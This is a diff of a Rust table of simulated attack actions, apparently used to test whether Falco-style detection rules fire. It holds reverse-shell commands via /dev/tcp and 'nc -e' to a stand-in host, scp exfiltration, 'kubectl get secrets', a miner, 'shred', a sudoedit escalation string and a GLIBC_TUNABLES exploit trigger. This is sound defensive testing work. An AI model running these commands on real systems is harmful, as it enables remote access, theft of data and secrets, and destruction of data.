@@ -22,7 +22,7 @@ pub(super) const ACTIONS: &[Action] = &[
         mitre: "T1190",
         cast: &[
             Part { program: "nginx", ..PART },
-            Part { program: "sh", args: &["-c", "id; : {token}"], ..PART },
+            Part { program: "sh", args: &["-c", "id; : <token>"], ..PART },
         ],
         ..ONLY_NAMED
     },
@@ -55,7 +55,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &[],
         mitre: "T1048",
         place: Place::ContainerEntry,
-        cast: &[Part { program: "tar", args: &["cf", "-", "/{token}"], ..PART }],
+        cast: &[Part { program: "tar", args: &["cf", "-", "/<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -76,7 +76,7 @@ pub(super) const ACTIONS: &[Action] = &[
         place: Place::Container,
         cast: &[Part {
             program: "nc",
-            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "{token}"],
+            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
             ..PART
         }],
         ..ONLY_NAMED
@@ -86,10 +86,11 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs nc -e on the host",
         rules: &["Netcat/Socat Remote Code Execution on Host"],
         falco: &["Netcat/Socat Remote Code Execution on Host"],
+        needs: &[Need::Host],
         mitre: "T1059",
         cast: &[Part {
             program: "nc",
-            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "{token}"],
+            args: &["198.51.100.7", "4444", "-e", "/bin/sh", "<token>"],
             ..PART
         }],
         ..ONLY_NAMED
@@ -101,7 +102,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Suspicious Network Tool in Container"],
         mitre: "T1046",
         place: Place::Container,
-        cast: &[Part { program: "nmap", args: &["-sS", "198.51.100.0/24", "{token}"], ..PART }],
+        cast: &[Part { program: "nmap", args: &["-sS", "198.51.100.0/24", "<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -113,7 +114,7 @@ pub(super) const ACTIONS: &[Action] = &[
         place: Place::Container,
         cast: &[Part {
             program: "bash",
-            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # {token}"],
+            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
             ..PART
         }],
         ..ONLY_NAMED
@@ -122,10 +123,11 @@ pub(super) const ACTIONS: &[Action] = &[
         name: "reverse-shell-on-host",
         does: "runs a shell with a script that connects to /dev/tcp, on the host",
         rules: &["Reverse shell on host"],
+        needs: &[Need::Host],
         mitre: "T1059.004",
         cast: &[Part {
             program: "bash",
-            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # {token}"],
+            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # <token>"],
             ..PART
         }],
         ..ONLY_NAMED
@@ -137,7 +139,7 @@ pub(super) const ACTIONS: &[Action] = &[
         mitre: "T1027",
         cast: &[Part {
             program: "sh",
-            args: &["-c", "echo aWQK | base64 -d | sh # {token}"],
+            args: &["-c", "echo aWQK | base64 -d | sh # <token>"],
             ..PART
         }],
         ..ONLY_NAMED
@@ -158,7 +160,7 @@ pub(super) const ACTIONS: &[Action] = &[
         does: "runs pkill with what our daemons' names begin with",
         rules: &["Lanner stopped by command"],
         mitre: "T1562.001",
-        cast: &[Part { program: "pkill", args: &["lanner-{token}"], ..PART }],
+        cast: &[Part { program: "pkill", args: &["lanner-<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -168,7 +170,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Remote File Copy Tools in Container"],
         mitre: "T1020",
         place: Place::Container,
-        cast: &[Part { program: "scp", args: &["-r", "/srv", "198.51.100.7:/{token}"], ..PART }],
+        cast: &[Part { program: "scp", args: &["-r", "/srv", "198.51.100.7:/<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -177,7 +179,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Ingress Remote File Copy Tools in Container"],
         mitre: "T1105",
         place: Place::Container,
-        cast: &[Part { program: "wget", args: &["http://198.51.100.7/{token}"], ..PART }],
+        cast: &[Part { program: "wget", args: &["http://198.51.100.7/<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -187,7 +189,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Launch Package Management Process in Container"],
         mitre: "T1505",
         place: Place::Container,
-        cast: &[Part { program: "apk", args: &["add", "{token}"], ..PART }],
+        cast: &[Part { program: "apk", args: &["add", "<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -197,7 +199,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Kubernetes Client Tool Launched in Container"],
         mitre: "T1610",
         place: Place::Container,
-        cast: &[Part { program: "kubectl", args: &["get", "secrets", "{token}"], ..PART }],
+        cast: &[Part { program: "kubectl", args: &["get", "secrets", "<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -206,7 +208,7 @@ pub(super) const ACTIONS: &[Action] = &[
         falco: &["Decoding Payload in Container"],
         mitre: "T1132",
         place: Place::Container,
-        cast: &[Part { program: "base64", args: &["-d", "{token}"], ..PART }],
+        cast: &[Part { program: "base64", args: &["-d", "<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -217,7 +219,7 @@ pub(super) const ACTIONS: &[Action] = &[
         mitre: "T1496",
         cast: &[Part {
             program: "kworker",
-            args: &["-o", "stratum+tcp://pool.invalid:3333", "-u", "{token}"],
+            args: &["-o", "stratum+tcp://pool.invalid:3333", "-u", "<token>"],
             ..PART
         }],
         ..ONLY_NAMED
@@ -237,7 +239,7 @@ pub(super) const ACTIONS: &[Action] = &[
         rules: &["Remove Bulk Data from Disk"],
         falco: &["Remove Bulk Data from Disk"],
         mitre: "T1485",
-        cast: &[Part { program: "shred", args: &["-u", "/{token}"], ..PART }],
+        cast: &[Part { program: "shred", args: &["-u", "/<token>"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -268,7 +270,7 @@ pub(super) const ACTIONS: &[Action] = &[
         needs: &[Need::OtherLogin],
         falco: &["Sudo Potential Privilege Escalation"],
         mitre: "T1548.003",
-        cast: &[Part { program: "sudoedit", args: &["-s", "{token}", "\\"], ..PART }],
+        cast: &[Part { program: "sudoedit", args: &["-s", "<token>", "\\"], ..PART }],
         ..ONLY_NAMED
     },
     Action {
@@ -288,7 +290,10 @@ pub(super) const ACTIONS: &[Action] = &[
         needs: &[Need::OtherLogin],
         falco: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
         mitre: "T1574.006",
-        cast: &[Part { env: &[("GLIBC_TUNABLES", "glibc.malloc.mxfast=glibc.malloc.mxfast=1")], ..PART }],
+        cast: &[Part {
+            env: &[("GLIBC_TUNABLES", "glibc.malloc.mxfast=glibc.malloc.mxfast=1")],
+            ..PART
+        }],
         ..ONLY_NAMED
     },
     Action {
